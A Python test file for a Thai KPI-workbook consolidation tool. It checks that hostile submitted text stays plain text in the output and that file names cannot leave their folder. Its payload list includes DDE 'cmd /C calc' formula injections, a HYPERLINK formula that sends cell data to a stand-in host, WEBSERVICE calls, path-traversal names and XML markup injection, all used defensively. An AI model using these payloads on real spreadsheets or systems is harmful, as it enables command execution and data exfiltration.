"""Output safety, checked on the real output: no submitted text becomes a formula, a number or a
link anywhere in the consolidated workbook; long text is cut with a warning; control characters
round-trip; division names cannot escape their folder when used as file names."""

from __future__ import annotations

import json
import logging
import re
import zipfile
from pathlib import Path

import openpyxl
import pytest
from helpers import kpi, write_submission
from hypothesis import given, settings
from hypothesis import strategies as st

from fuzz import corpus
from fuzz.workbooks import division_rows, score_rows, write_workbook
from kpibatch.config import Settings
from kpibatch.pipeline import check_file, inbox_files, run_batch
from kpibatch.safety import (
    CUT_MARK,
    EXCEL_MAX_TEXT,
    MAX_NAME_BYTES,
    fit_cell_text,
    header_footer_text,
    safe_child,
    safe_filename,
    safe_workbook,
    utf16_len,
    write_text,
)
from kpibatch.score import ScoreOptions
from kpibatch.text import restore_control_chars
from kpibatch.write.division import FIRST_KPI_ROW
from kpibatch.write.overview import COLUMN as OVERVIEW_COLUMN
from kpibatch.write.overview import FIRST_ROW as OVERVIEW_FIRST_ROW

PAYLOADS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "{=A1*2}",
    '=HYPERLINK("http://evil.example/steal?x="&A1,"ดูรายละเอียด")',
    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
    '=WEBSERVICE("http://evil.example")',
    "http://evil.example/payload",
    "https://evil.example",
    "mailto:boss@evil.example",
    "external:C:\\secret\\book.xlsx",
    "internal:'ภาพรวม'!A1",
    "ftp://evil.example/file",
    "1e308",
    "00123",
    "\t=1+1",
    "\r\n=SUM(A1:A9)",
    "'=quoted",
]


def output_workbook(out: Path) -> Path:
    [workbook] = out.glob("*/*.xlsx")
    return workbook


def assert_no_formula_no_link_no_number(workbook: Path, texts: list[str]) -> None:
    with zipfile.ZipFile(workbook) as z:
        names = z.namelist()
        assert not [n for n in names if "externalLink" in n or "connections" in n or "vbaProject" in n]
        for name in names:
            data = z.read(name).decode("utf-8", errors="replace")
            if name.startswith("xl/worksheets/sheet"):
                assert not re.search(r"<f[ >]", data), f"formula in {name}"
                assert not re.search(r"<hyperlink\b[^>]*\br:id=", data), f"external link in {name}"
                assert "ddeLink" not in data
            if name.endswith(".rels"):
                assert 'TargetMode="External"' not in data, f"external target in {name}"
    book = openpyxl.load_workbook(workbook)  # full mode: formulas and links would show here
    seen: set[str] = set()
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.hyperlink is None, f"{ws.title}!{cell.coordinate} has a link"
                assert cell.data_type != "f", f"{ws.title}!{cell.coordinate} is a formula"
                if isinstance(cell.value, str):
                    assert cell.data_type == "s"
                    seen.add(str(restore_control_chars(cell.value)).strip())
    missing = [t for t in texts if t.strip() not in seen]
    assert missing == [], "texts not written as text"


def test_no_submitted_text_becomes_a_formula_a_number_or_a_link(tmp_path: Path) -> None:
    inbox = tmp_path / "inbox"
    names = PAYLOADS
    write_workbook(
        inbox / "hostile.xlsx",
        division_rows("=cmd|' /C calc'!A0", short_name='=HYPERLINK("http://evil.example")'),
        score_rows(names, unit=PAYLOADS[::-1], note=PAYLOADS, status=[None] * 18 + PAYLOADS[:2]),
        [["from", "to", "weight", "reason"], ["19", "1", 5, "=cmd|' /C calc'!A0"]],
    )
    write_workbook(inbox / "bad.xlsx", division_rows("@SUM(1)"), [["code", "name"], ["=1+1", "x"]])
    report = run_batch(inbox_files(inbox), tmp_path / "out", Settings())
    assert [o.name for o in report.accepted] == ["hostile.xlsx"]
    statuses = PAYLOADS[:2]
    texts = [*names, *PAYLOADS, *statuses, "=cmd|' /C calc'!A0", "bad.xlsx"]
    assert_no_formula_no_link_no_number(output_workbook(tmp_path / "out"), texts)


def test_the_workbook_forces_text_whatever_options_it_is_given(tmp_path: Path) -> None:
    path = tmp_path / "w.xlsx"
    options = {"strings_to_formulas": True, "strings_to_urls": True, "strings_to_numbers": True}
    book = safe_workbook(str(path), options)
    ws = book.add_worksheet("s")
    # xlsxwriter before 3.3.1 turns "{=...}" into an array formula in write() whatever the options:
    # kpibatch writes typed text with write_text only (test_write_workbook checks no write() call)
    converted = [text for text in PAYLOADS if not text.startswith("{=")]
    for row, text in enumerate(converted):
        ws.write(row, 0, text)  # the generic write, which would convert with those options
    for row, text in enumerate(PAYLOADS):
        write_text(ws, row, 1, text, None)
    book.close()
    assert_no_formula_no_link_no_number(path, PAYLOADS)


def test_text_too_long_for_a_cell_is_cut_with_a_warning_naming_the_cell(tmp_path: Path) -> None:
    # Excel, openpyxl and xlsxwriter all cut at 32,767 when writing: only a crafted file is longer
    path = write_submission(
        tmp_path / "inbox" / "long.xlsx",
        [kpi("1", 50, "LONG-NAME", method="score", result=4), kpi("2", 50, method="score", result=3)],
    )
    crafted = corpus.edit_member(
        path.read_bytes(),
        corpus.KPI_SHEET,
        lambda data: data.replace(b"LONG-NAME", "ก".encode() * 40_000),
    )
    path.write_bytes(crafted)
    outcome = check_file(path, ScoreOptions())
    assert outcome.accepted
    [warning] = [p for p in outcome.problems if p.code == "text-too-long"]
    assert (warning.sheet, warning.cell, warning.severity) == ("KPIs", "B2", "warning")
    assert "40,000" in warning.message_en
    out = tmp_path / "out"
    run_batch([path], out, Settings())
    book = openpyxl.load_workbook(output_workbook(out), read_only=True)
    cells = [c for ws in book.worksheets for row in ws.iter_rows(values_only=True) for c in row]
    [cut] = [c for c in cells if isinstance(c, str) and c.startswith("ก" * 100)]
    assert utf16_len(cut) <= EXCEL_MAX_TEXT and cut.endswith(CUT_MARK)
    assert any(isinstance(c, str) and "text-too-long" in c for c in cells)  # listed in the issues sheet
    data = json.loads((out / "2563-r12" / "results.json").read_text(encoding="utf-8"))
    assert data["divisions"][0]["kpis"][0]["name"] == cut
    # the division's own warnings: results.json, the overview's count, the KPI's row on its sheet
    assert data["divisions"][0]["warnings"] == [warning.message]
    full = openpyxl.load_workbook(output_workbook(out))
    overview = full.worksheets[0]
    assert overview.cell(OVERVIEW_FIRST_ROW + 1, OVERVIEW_COLUMN["warnings"] + 1).value == 1
    division = full.worksheets[1]
    row = [division.cell(FIRST_KPI_ROW + 1, c + 1).value for c in range(division.max_column)]
    # one line of the warnings cell (another says the 32,767-character name is cut in print)
    assert row[0] == "1" and any(isinstance(c, str) and warning.message_th in c.split("\n") for c in row)


def test_the_writer_guard_cuts_any_string_cell_and_logs_it(
    tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    path = tmp_path / "w.xlsx"
    book = safe_workbook(str(path))
    ws = book.add_worksheet("s")
    fmt = book.add_format({"text_wrap": True})
    with caplog.at_level(logging.WARNING, logger="kpibatch.safety"):
        write_text(ws, 0, 0, "x" * 50_000, fmt)
        write_text(ws, 1, 0, "😀" * 20_000, fmt)  # 40,000 UTF-16 units
        write_text(ws, 2, 0, "<r>" + "ก" * 40_000, fmt)  # cut, and written as two runs
        write_text(ws, 3, 0, "<r></r>", None)  # no cell format: runs in the default font
    book.close()
    assert caplog.text.count("was cut") == 3 and "s!R1C1" in caplog.text and "s!R3C1" in caplog.text
    ws = openpyxl.load_workbook(path).active
    for cell in (ws["A1"], ws["A2"], ws["A3"]):
        assert utf16_len(cell.value) <= EXCEL_MAX_TEXT and cell.value.endswith(CUT_MARK)
    assert ws["A3"].value.startswith("<r>ก") and ws["A4"].value == "<r></r>"


@settings(max_examples=200, deadline=None)
@given(
    text=st.text(alphabet=st.sampled_from("aก\u0e34\u0e48😀\x1f ="), max_size=300), limit=st.integers(40, 200)
)
def test_fit_cell_text_respects_the_limit_and_never_splits_a_character(text: str, limit: int) -> None:
    fitted, cut = fit_cell_text(text, limit)
    assert utf16_len(fitted) <= limit or (not cut and utf16_len(text) <= limit)
    if cut:
        kept = fitted.removesuffix(CUT_MARK)
        assert fitted.endswith(CUT_MARK) and text.startswith(kept)
        assert not kept or kept[-1] not in "\u0e34\u0e48"  # no Thai mark left without its base
    else:
        assert fitted == text


def test_control_characters_round_trip(tmp_path: Path) -> None:
    names = ["ก\x1fข\x01ค", "บรรทัดหนึ่ง\r\nบรรทัดสอง", "literal _x0041_ stays", "tab\there"]
    path = write_workbook(tmp_path / "inbox" / "ctl.xlsx", division_rows("กอง\x1fควบคุม"), score_rows(names))
    outcome = check_file(path, ScoreOptions())
    assert outcome.accepted and outcome.score is not None
    assert [k.name for k in outcome.score.kpis] == names
    assert outcome.score.division == "กอง\x1fควบคุม"
    out = tmp_path / "out"
    run_batch([path], out, Settings())
    data = json.loads((out / "2563-r12" / "results.json").read_text(encoding="utf-8"))
    assert [k["name"] for k in data["divisions"][0]["kpis"]] == names
    with zipfile.ZipFile(output_workbook(out)) as z:
        strings = "".join(
            z.read(n).decode() for n in z.namelist() if n.startswith("xl/") and n.endswith(".xml")
        )
    assert "ก_x001F_ข_x0001_ค" in strings and "_x005F_x001F_" not in strings  # Excel shows \x1f again
    assert "literal _x005F_x0041_ stays" in strings  # a typed _x0041_ stays typed text
    calamine = pytest.importorskip("python_calamine", reason="python-calamine is in the test extra")
    sheets = calamine.CalamineWorkbook.from_path(str(output_workbook(out)))
    values = {
        v for name in sheets.sheet_names for row in sheets.get_sheet_by_name(name).to_python() for v in row
    }
    assert "ก\x1fข\x01ค" in values and "literal _x0041_ stays" in values


MARKUP = [
    "<r><t>x</t></r><si><t>injected</t></si><r><t>z</t></r>",
    '<r><rPr><b/></rPr><t>bold</t></r><r><t xml:space="preserve"> x </t></r>',
    "<r>only starts like rich text",
    "<r></r>",
]


def test_text_that_looks_like_rich_text_markup_stays_text(tmp_path: Path) -> None:
    """xlsxwriter copies a string that starts with ``<r>`` and ends with ``</r>`` into the workbook
    as markup; a division typing one could inject any XML (here a second string or bold text)."""
    typed = MARKUP[0]
    kpis = [
        kpi("1", 60, typed, method="score", result=4, unit=MARKUP[3], note=MARKUP[1]),
        kpi("2", 40, MARKUP[1], method="score", result=3, note=MARKUP[2]),
    ]
    path = write_submission(tmp_path / "inbox" / "rich.xlsx", kpis, division=typed, short_name="กองทดลอง")
    out = tmp_path / "out"
    run_batch([path], out, Settings())
    book = openpyxl.load_workbook(output_workbook(out), rich_text=True)
    values = [c.value for ws in book.worksheets for row in ws.iter_rows() for c in row]
    plain = {str(v) for v in values if v is not None}
    assert set(MARKUP) <= plain  # each exactly as typed: no run, no lost tag
    assert not any(isinstance(v, str) and v.startswith("xinjected") for v in values)
    with zipfile.ZipFile(output_workbook(out)) as z:
        # the text of every cell: inline in the sheets (written row by row) or shared
        parts = [n for n in z.namelist() if n.startswith(("xl/worksheets/sheet", "xl/sharedStrings"))]
        strings = "".join(z.read(name).decode() for name in parts)
    assert "<si><t>injected" not in strings and "<rPr><b/></rPr><t>bold" not in strings
    assert "&lt;si&gt;&lt;t&gt;injected" in strings  # the typed tags are escaped text


@pytest.mark.parametrize(
    ("name", "expected"),
    [
        ("กองบริหารการคลัง", "กองบริหารการคลัง"),
        ("../../etc/passwd", "_._etc_passwd"),
        ("/etc/cron.d/x", "_etc_cron.d_x"),
        ("C:\\Windows\\system32", "C__Windows_system32"),
        ("CON", "_CON"),
        ("con.txt", "_con.txt"),
        ("nul", "_nul"),
        ("COM1", "_COM1"),
        ("LPT9.xlsx", "_LPT9.xlsx"),
        ("CONSOLE", "CONSOLE"),
        ("..", "unnamed"),
        ("", "unnamed"),
        ("   ", "unnamed"),
        (".hidden", "hidden"),
        ("-rf", "rf"),
        ("name. ", "name"),
        ('a<b>c:"d"|e?f*g', "a_b_c__d__e_f_g"),
        ("a\x00b\x1fc", "a_b_c"),
        ("e\u0301", "\u00e9"),
    ],
)
def test_safe_filename_examples(name: str, expected: str) -> None:
    assert safe_filename(name) == expected


@settings(max_examples=300, deadline=None)
@given(name=st.text(max_size=300))
def test_safe_filename_always_stays_in_its_folder(
    tmp_path_factory: pytest.TempPathFactory, name: str
) -> None:
    folder = tmp_path_factory.mktemp("names")
    safe = safe_filename(name)
    assert safe and safe not in {".", ".."} and not re.search(r'[/\\:*?"<>|\x00-\x1f]', safe)
    assert len(safe.encode("utf-8")) <= MAX_NAME_BYTES
    assert not re.match(r"(?i)^(con|prn|aux|nul|com\d|lpt\d)(\.|$)", safe)
    path = safe_child(folder, name, ".xlsx")
    path.write_bytes(b"x")  # the real file system accepts it, directly inside the folder
    assert [p.name for p in folder.iterdir()] == [path.name]


def test_safe_child_refuses_a_link_out_of_the_folder(tmp_path: Path) -> None:
    folder = tmp_path / "archive"
    folder.mkdir()
    (folder / "กองหนึ่ง.xlsx").symlink_to(tmp_path / "elsewhere.xlsx")
    with pytest.raises(ValueError, match="unsafe"):
        safe_child(folder, "กองหนึ่ง", ".xlsx")
    with pytest.raises(ValueError, match="unsafe suffix"):
        safe_child(folder, "x", "/../y")


def test_header_and_footer_text_cannot_inject_codes() -> None:
    assert header_footer_text("R&D &F") == "R&&D &&F"
